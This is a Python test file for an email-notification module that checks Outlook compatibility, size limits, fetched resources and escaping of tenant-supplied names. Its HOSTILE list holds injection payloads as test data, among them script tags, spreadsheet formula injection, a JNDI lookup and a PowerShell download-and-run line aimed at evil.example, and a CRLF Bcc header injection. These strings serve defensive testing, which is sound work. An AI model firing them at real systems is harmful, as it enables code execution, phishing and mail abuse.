"""Rules that every mail keeps: what Outlook shows, what nobody can forge."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from monitor.model import Kind, Mail, MailKind, ObjectType, TenantHealth
from tests import mail_samples as sample
from tests.report_samples import hostile_report

ROOT = Path(__file__).resolve().parents[2]
MAILS = sample.every_mail()
OURS = (
    "https://portal.azure.com/", "https://partner.microsoft.com/", "https://lapsewatch.msp.example/",
)  # fmt: skip
RULES = (*OURS, "https://admin.exchange.microsoft.com/", "https://learn.microsoft.com/")

HOSTILE = [
    "<script>alert(1)</script>",
    "</title><h1>x",
    '<img src=x onerror="alert(1)">',
    '" onmouseover="x',
    '=HYPERLINK("http://evil.example/x")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading return",
    "\r\nBcc: x@evil.example",
    "pay\u202eslip\u2066.exe",
    "zero\u200bwidth\ufeff",
    "nul\x00byte",
    "lone\ud800surrogate",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example}",
    "%s%n",
    "'; Remove-Mailbox",
    "\u2019; iex (iwr evil.example)",
    "\x1b[2Jescape",
    "www.evil.example/login",
    "<!--[if mso]><p><![endif]-->",
    "",
    "x" * 10_000,
]


WBR = "\u200b"


class Page(HTMLParser):
    """A mail's HTML as a list of elements, its text, and its links."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.words: list[str] = []
        self.css = ""
        self._inside = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Notes an element."""
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "wbr":  # no blank
            self.words.append(WBR)
        elif tag not in ("br", "meta"):
            self._inside = tag

    def handle_endtag(self, tag: str) -> None:
        """Leaves an element."""
        self._inside = ""

    def handle_comment(self, data: str) -> None:
        """Notes a comment."""
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        """Notes text, or the style sheet."""
        if self._inside == "style":
            self.css += data
        elif self._inside != "title":
            self.words.append(data)

    @property
    def text(self) -> str:
        """What is read."""
        return " ".join(" ".join(self.words).replace(f" {WBR} ", "").split())

    @property
    def links(self) -> set[str]:
        """Where one can go."""
        return {found["href"] for tag, found in self.elements if tag == "a"}


def style(attributes: Mapping[str, str]) -> dict[str, str]:
    """The inline style of an element."""
    pairs = (part.partition(":") for part in attributes.get("style", "").split(";") if part.strip())
    return {name.strip().lower(): value.strip().lower() for name, _, value in pairs}


# --- what Outlook does not show ------------------------------------------------------------------

# What the mails are made of: no pictures, no SVG, no forms, no scripts. A wbr shows nothing: where
# it is not known, a long word breaks where it would without it.
ELEMENTS = {"html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "th",
            "a", "b", "br", "wbr", "h1", "h2", "span", "div"}  # fmt: skip
LOST = {"position", "float", "max-width", "min-width", "max-height", "border-radius", "box-shadow",
        "background-image", "background", "transform", "opacity", "overflow", "gap",
        "flex", "grid-template-columns"}  # fmt: skip
BOX = {"padding", "margin", "width", "height"}
PLAIN_TEXT_ELEMENTS = {"p", "div", "span", "a"}


def outlook_loses(html: str) -> Iterator[str]:
    """Everything in the HTML that Outlook's renderer, which is Word's, does not show."""
    page = Page(html)
    for tag, attributes in page.elements:
        if tag not in ELEMENTS:
            yield f"element {tag}"
        look = style(attributes)
        for name in look.keys() & LOST:
            yield f"{name} on {tag}"
        if look.get("display", "block") not in ("block", "none"):
            yield f"display: {look['display']}"
        if tag in PLAIN_TEXT_ELEMENTS and look.keys() & BOX:
            yield f"box of {tag}"
        if "url(" in attributes.get("style", ""):
            yield "url() in a style"
        if tag in ("td", "th") and not {"bgcolor"} <= attributes.keys():
            yield f"{tag} without bgcolor"
        if tag in ("td", "th") and not {"color", "background-color"} <= look.keys():
            yield f"{tag} without colours"
        if tag == "th" and attributes.get("scope") not in ("row", "col"):
            yield "th without scope"
        if tag == "table" and "width" not in attributes and "cellpadding" not in attributes:
            yield "table without attributes"
    yield from _frame(page)


def _frame(page: Page) -> Iterator[str]:
    if not any("[if mso]" in comment and 'width="600"' in comment for comment in page.comments):
        yield "no wrapper for Outlook"
    if not any(tag == "html" and found.get("lang") for tag, found in page.elements):
        yield "no language"
    outside = re.sub(r"@media[^{]*\{(?:[^{}]*\{[^{}]*\})*\s*\}", "", page.css)
    if outside.strip():
        yield "a style sheet beyond @media"
    if re.search(r"@import|@font-face|url\(|display:\s*(?:flex|grid)", page.css):
        yield "a style sheet that fetches or lays out"
    layout = [found for tag, found in page.elements if tag == "table"]
    data = sum(tag == "th" for tag, _ in page.elements)
    if len([found for found in layout if found.get("role") != "presentation"]) > data:
        yield "a layout table without role"


@pytest.mark.parametrize("name", MAILS)
def test_nothing_in_a_mail_is_lost_on_outlook(name: str) -> None:
    """Nested tables, width attributes, inline styles, explicit colours."""
    assert list(outlook_loses(MAILS[name].html)) == []


GOOD = MAILS["reminder-one"].html


@pytest.mark.parametrize(
    "bad",
    [
        '<img src="x.png" alt="">',
        "<svg></svg>",
        "<script></script>",
        '<link rel="stylesheet" href="x.css">',
        "<form></form>",
        '<div style="display:flex">x</div>',
        '<div style="display: grid">x</div>',
        '<div style="position:absolute">x</div>',
        '<b style="float:left">x</b>',
        '<b style="border-radius:3px">x</b>',
        '<b style="max-width:600px">x</b>',
        '<b style="background-image:url(x)">x</b>',
        '<b style="background:url(x)">x</b>',
        '<div style="padding:10px">x</div>',
        '<span style="width:10px">x</span>',
        '<table role="presentation" width="1"><tr><td>x</td></tr></table>',
        '<table width="1"><tr><th bgcolor="red" style="color:red;background-color:red">x',
        "<style>td { color: red }</style>",
        "<style>@import 'x.css';</style>",
        "<style>@media (x) { .a { display: flex } }</style>",
    ],
)
def test_what_outlook_loses_is_caught(bad: str) -> None:
    """The rule above would otherwise prove nothing."""
    assert list(outlook_loses(GOOD.replace("</body>", f"{bad}</body>"))) != []


@pytest.mark.parametrize("frame", ["<!--[if mso]>", ' lang="en"'])
def test_a_missing_frame_is_caught(frame: str) -> None:
    """The wrapper for Outlook, and the language."""
    assert list(outlook_loses(GOOD.replace(frame, "<!-- -->" if "mso" in frame else ""))) != []


# --- dark mode, size, nothing from outside -------------------------------------------------------


@pytest.mark.parametrize("name", MAILS)
def test_dark_mode_and_narrow_screens_survive_the_inlining(name: str) -> None:
    """They cannot be inlined, so they must stay in the style sheet."""
    css = Page(MAILS[name].html).css
    assert "prefers-color-scheme: dark" in css
    assert "max-width: 480px" in css


@pytest.mark.parametrize("name", MAILS)
def test_a_mail_fetches_nothing(name: str) -> None:
    """No tracker, no picture, no font; and links lead to places that we chose."""
    page = Page(MAILS[name].html)
    for tag, attributes in page.elements:
        assert not attributes.keys() & {"src", "srcset", "background", "data", "action", "poster"}
        assert tag == "a" or "href" not in attributes
    assert all(link.startswith(RULES) for link in page.links)


@pytest.mark.parametrize("name", MAILS)
def test_a_mail_stays_below_the_size_where_programs_cut(name: str) -> None:
    """Gmail cuts at about 100 kB."""
    assert len(MAILS[name].html.encode()) < 100_000


def test_hostile_names_do_not_make_a_digest_too_big() -> None:
    """Fewer are shown then, and the rest is counted."""
    bad = "<\"&'>" * 60
    items = [
        sample.item(number, who=sample.tenant(f"{bad}{number}"), app_name=bad, name=bad,
                    owners=(bad,) * 9, object_type=ObjectType.SERVICE_PRINCIPAL, own=True)
        for number in range(40)
    ]  # fmt: skip
    aside = [
        (sample.tenant(bad), sample.credential(-50, app_name=bad, uid=str(n))) for n in range(30)
    ]
    blind = [(sample.tenant(bad), TenantHealth(bad, problem=bad * 9))] * 30
    mail = sample.digest(*items, still_lapsed=aside, blind=blind)
    assert len(mail.html.encode()) < 100_000
    assert re.search(r"and \d+ more\.", mail.text)


@pytest.mark.parametrize("count", [1, 2, 4, 5, 25, 26, 200])
def test_digests_of_any_length_keep_the_rules(count: int) -> None:
    """Cards for few, rows for many."""
    mail = sample.digest(*sample.many(count + 1)[1:])
    assert list(outlook_loses(mail.html)) == []
    assert len(mail.html.encode()) < 100_000


# --- how it reads ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", MAILS)
def test_the_text_comes_to_the_point_in_its_first_lines(name: str) -> None:
    """The state word, what happened, and what to do."""
    first, second, *_ = MAILS[name].text.splitlines()
    assert re.match(r"[A-Z ]+\. ", first)
    assert second


@pytest.mark.parametrize("name", MAILS)
def test_the_tone_is_calm(name: str) -> None:
    """No exclamation marks."""
    assert "!" not in MAILS[name].text


def test_there_is_a_sample_of_every_kind_that_has_a_template() -> None:
    """A new kind of mail must be seen and tested."""
    kinds = {folder.name for folder in (ROOT / "templates/email").iterdir()} - {"_parts"}
    assert kinds == {str(mail.kind) for mail in MAILS.values()}
    assert kinds <= set(MailKind)


def test_each_kind_that_can_tell_of_many_has_a_sample_with_two_hundred() -> None:
    """It must be seen with as many; a canary is about one sender."""
    crowds = {str(mail.kind) for name, mail in MAILS.items() if "200" in name}
    assert crowds == {str(kind) for kind in MailKind} - {"canary"}


# --- names that want to be more ------------------------------------------------------------------


CLICKABLE_OR_UNSEEN = r"www\.|[^\S\n ]|[\u200b-\u200f\u202a-\u202e\u2066-\u2069]"


def hostile_mails(name: str) -> list[Mail]:
    """Every mail that shows something chosen by others, with this string in each such place."""
    who = sample.tenant(name)
    health = TenantHealth(tenant=name, cause="consent_missing", problem=name or "x")
    cards = sample.item(app_name=name, name=name, owners=(name,), key_id=name, app_id=name)
    saml: dict[str, Any] = {"kind": Kind.SAML_SIGNING, "object_type": ObjectType.SERVICE_PRINCIPAL}
    rows = [sample.item(day, who=who, app_name=name, name=name, owners=(name,), **saml)
            for day in range(1, 7)]  # fmt: skip
    lapsed = sample.credential(-60, app_name=name, name=name)
    return [
        sample.digest(cards),
        sample.digest(*rows, still_lapsed=[(who, lapsed)], blind=[(who, health)]),
        sample.digest(sample.covered_item(who=who, app_name=name)),
        sample.welcome(cards),
        sample.welcome(*rows, still_lapsed=[(who, lapsed)], blind=[(who, health)]),
        sample.cannot_check(who, health=health),
        sample.canary(tenant_name=name, mailbox=name),
        sample.canary_failed(
            tenant_name=name, probe=replace(sample.failed_probe(), evidence=name or "x")
        ),
        sample.cannot_check(who, finding=sample.finding(evidence=name)),
        sample.canary_failed(finding=sample.finding(evidence=name)),
        sample.recovered_tenant(who),
        sample.recovered_sender(name, name),
        hostile_report(name),
    ]


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page and the names of their attributes."""
    return [(tag, tuple(attributes)) for tag, attributes in Page(html).elements]


CALM = [shape(mail.html) for mail in hostile_mails("Harmless")]


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: ascii(name)[:24])
def test_a_hostile_name_adds_no_element_no_header_and_no_link(name: str) -> None:
    """Whoever may name an app must not be able to write a mail."""
    for mail, calm in zip(hostile_mails(name), CALM, strict=True):
        assert shape(mail.html) == calm
        page = Page(mail.html)
        assert all(link.startswith(RULES) for link in page.links)
        for shown in (mail.text, page.text):
            for link in re.findall(r"\w+://\S*", shown):
                assert link.startswith(RULES)
            beside = re.sub(r"https://\S*", "", shown).replace("\xa0", " ")
            assert not re.search(CLICKABLE_OR_UNSEEN, beside)
        assert sent_and_read(mail) == {"Subject", "References", "MIME-Version", "Content-Type"}


def sent_and_read(mail: Mail) -> set[str]:
    """The headers that a receiver finds."""
    message = EmailMessage(policy=policy.SMTP.clone(cte_type="7bit"))
    message["Subject"] = mail.subject
    message["References"] = " ".join(mail.references)
    message.set_content(mail.text)
    message.add_alternative(mail.html, subtype="html")
    read = message_from_bytes(message.as_bytes(), policy=policy.default)
    # Folding may move blanks, between encoded words above all.
    assert read["Subject"].split() == mail.subject.split()
    return set(read.keys())


@pytest.mark.parametrize(
    "path", sorted((ROOT / "templates/email").rglob("*.*")), ids=lambda p: p.name
)
def test_no_template_switches_escaping_off(path: Path) -> None:
    """Neither the filter nor the block."""
    assert not re.search(r"\|\s*safe|autoescape|Markup", path.read_text(encoding="utf-8"))
